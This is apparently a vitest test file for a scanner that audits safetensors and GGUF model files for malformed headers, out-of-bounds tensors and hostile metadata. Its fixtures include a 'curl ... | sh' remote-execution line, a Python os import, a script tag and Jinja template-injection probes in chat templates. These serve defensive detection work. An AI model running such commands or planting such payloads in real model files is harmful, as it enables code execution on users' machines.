import { describe, expect, it } from 'vitest';
import { gguf, ggufPair, ggufTensor, ggufText, hits, join, ruled, safetensors, scan, u32, u64 } from './bytes.js';

const tensor = (name: string, begin: number, end: number) =>
  `"${name}":{"dtype":"F32","shape":[${(end - begin) / 4}],"data_offsets":[${begin},${end}]}`;

describe('safetensors', () => {
  it('has nothing to say about a sound file, empty tensors and addresses in metadata included', () => {
    const file = safetensors(
      `{"__metadata__":{"format":"pt","home":"https://example.com/x"},${tensor('a', 0, 16)},${tensor('e', 16, 16)}}`,
      16,
    );
    expect(scan(file, 'a.safetensors')).toMatchObject({ format: 'safetensors', observations: [], unread: [] });
  });

  it('is known by its content under any name', () => {
    expect(scan(safetensors(`{${tensor('a', 0, 4)}}`, 4), 'weights.bin').format).toBe('safetensors');
  });

  it.each([
    ['a hole', `{${tensor('a', 0, 4)},${tensor('b', 8, 12)}}`, 12, /leave a hole/],
    ['an overlap', `{${tensor('a', 0, 8)},${tensor('b', 4, 12)}}`, 12, /overlap/],
    ['a tail', `{${tensor('a', 0, 4)}}`, 9, /trailing bytes: 5/],
    ['data beyond the end', `{${tensor('a', 0, 64)}}`, 4, /beyond the file/],
    ['a false shape', '{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,4]}}', 4, /shape of a/],
    ['a shape that overflows', '{"a":{"dtype":"F32","shape":[4294967296,4294967296,1],"data_offsets":[0,4]}}', 4, /shape of a/],
    ['an unknown type', '{"a":{"dtype":"F31","shape":[1],"data_offsets":[0,4]}}', 4, /dtype of a/],
    ['reversed offsets', '{"a":{"dtype":"F32","shape":[1],"data_offsets":[8,4]}}', 8, /before they begin/],
    ['a duplicate key', `{${tensor('a', 0, 4)},${tensor('a', 0, 4)}}`, 4, /duplicate key a/],
    [
      'a duplicate key behind an escape',
      `{${tensor('a', 0, 4)},"\\u0061":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`,
      4,
      /duplicate key a/,
    ],
    ['metadata that is no text', `{"__metadata__":{"k":{}},${tensor('a', 0, 4)}}`, 4, /__metadata__ value of k/],
  ])('names %s', (_, header, data, expected) => {
    const [first] = hits(safetensors(header, data), 'a.safetensors');
    expect(first).toMatchObject({ rule: 'MDL-ST-HEADER', severity: 'medium' });
    expect(first?.evidence).toMatch(expected);
  });

  it.each([
    ['too short', Buffer.from('abc')],
    ['a length beyond the file', join(u64(1n << 62n), '{}')],
    ['a header that is no JSON', safetensors("{'a': 1}")],
    ['a header that starts with a space', safetensors(' {"a":{}}')],
    ['a header that is not UTF-8', join(u64(8), Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]))],
    ['a header nested too deep', safetensors(`{"a":${'['.repeat(4000)}${']'.repeat(4000)}}`)],
  ])('never calls %s clean', (_, bytes) => {
    expect(scan(bytes, 'a.safetensors').unread).not.toEqual([]);
  });

  it('tells active metadata from prose that holds the same words', () => {
    const with_ = (value: string) => ruled(safetensors(JSON.stringify({ __metadata__: { note: value } })), 'a.safetensors');
    expect(with_('<script src=//x></script>')).toEqual(['MDL-META-ACTIVE low']);
    expect(with_("__import__('os').getcwd()")).toEqual(['MDL-META-ACTIVE low']);
    expect(with_('curl https://x.example/a | sh')).toEqual(['MDL-META-ACTIVE low']);
    expect(with_('tags: eval, system, exec; see https://example.com')).toEqual([]);
  });
});

describe('gguf', () => {
  const plain = [ggufPair('general.architecture', 'llama'), ggufPair('general.url', 'https://example.com/m')];

  it('has nothing to say about a sound file', () => {
    const file = gguf(plain, [ggufTensor('w', [4, 2], 0)], 32);
    expect(scan(file, 'm.gguf')).toMatchObject({ format: 'gguf', observations: [], unread: [] });
  });

  it('finds a hostile template in any variant of the key, and in arrays of templates', () => {
    const hostile = "{{ ''.__class__ }}";
    expect(ruled(gguf([ggufPair('tokenizer.chat_template.rag', hostile)]), 'm.gguf')).toEqual(['MDL-TEMPLATE-SSTI critical']);
    const list = join(ggufText('tokenizer.chat_templates'), u32(9), u32(8), u64(1), ggufText(hostile));
    expect(ruled(gguf([list]), 'm.bin')).toEqual(['MDL-TEMPLATE-SSTI critical']);
  });

  it('reads big-endian files', () => {
    const swap = (bytes: Buffer) => Buffer.from(bytes).reverse();
    const text = (value: string) => join(swap(u64(value.length)), value);
    const file = join(
      'GGUF',
      swap(u32(3)),
      swap(u64(0)),
      swap(u64(1)),
      text('tokenizer.chat_template'),
      swap(u32(8)),
      text('{{ x.__class__ }}'),
    );
    expect(ruled(file, 'm.gguf')).toEqual(['MDL-TEMPLATE-SSTI critical']);
  });

  it.each([
    ['a huge tensor count', join('GGUF', u32(3), u64(1n << 40n), u64(0))],
    ['a huge pair count', join('GGUF', u32(3), u64(0), u64(0xffffffffffffffffn), Buffer.alloc(64))],
    ['a text longer than the file', join('GGUF', u32(3), u64(0), u64(1), u64(1n << 61n), Buffer.alloc(64))],
    ['an array longer than the file', gguf([join(ggufText('a'), u32(9), u32(10), u64(1n << 61n))])],
    ['an undefined value type', gguf([join(ggufText('a'), u32(77), u32(0))])],
    [
      'arrays in arrays without end',
      gguf([join(ggufText('a'), ...Array.from({ length: 40 }, () => join(u32(9), u64(1))), u32(0), u64(0), Buffer.alloc(16))]),
    ],
    ['nine dimensions', gguf(plain, [ggufTensor('w', [1, 1, 1, 1, 1, 1, 1, 1, 1], 0)], 32)],
    ['dimensions that overflow', gguf(plain, [ggufTensor('w', [1n << 40n, 1n << 40n], 0)], 32)],
    ['a tensor beyond the file', gguf(plain, [ggufTensor('w', [4], 1 << 20)], 32)],
    ['a tensor that is not aligned', gguf(plain, [ggufTensor('w', [1], 3)], 32)],
    ['overlapping tensors', gguf(plain, [ggufTensor('v', [16], 0), ggufTensor('w', [8], 32)], 64)],
  ])('names %s', (_, bytes) => {
    expect(ruled(bytes, 'm.gguf')).toEqual(['MDL-GGUF-BOUNDS medium']);
  });

  it('names a key that stands twice and judges both values', () => {
    const file = gguf([ggufPair('tokenizer.chat_template', '{{ bos_token }}'), ggufPair('tokenizer.chat_template', '{{ a.__init__ }}')]);
    expect(ruled(file, 'm.gguf').sort()).toEqual(['MDL-GGUF-BOUNDS medium', 'MDL-TEMPLATE-SSTI critical']);
  });

  it('never calls cut-off files, older containers and unknown versions clean', () => {
    const whole = gguf(plain, [ggufTensor('w', [4, 2], 0)], 32);
    for (let end = 5; end < whole.length - 32; end += 7) expect(scan(whole.subarray(0, end), 'm.gguf').unread).not.toEqual([]);
    expect(scan(join('tjgg', u32(3), Buffer.alloc(40)), 'm.bin').unread).not.toEqual([]);
    expect(scan(join('GGUF', u32(9), Buffer.alloc(40)), 'm.gguf').unread).not.toEqual([]);
  });
});
